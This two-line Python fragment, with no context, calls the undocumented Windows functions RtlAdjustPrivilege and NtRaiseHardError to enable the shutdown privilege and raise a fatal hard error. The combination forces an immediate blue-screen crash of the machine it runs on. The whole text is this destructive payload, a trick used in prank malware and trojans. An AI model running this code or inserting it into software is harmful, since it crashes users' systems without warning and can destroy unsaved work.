ctypes.windll.ntdll.RtlAdjustPrivilege(19, 1, 0, b)
ctypes.windll.ntdll.NtRaiseHardError(0xC0000022, 0, 0, 0, 6, b)
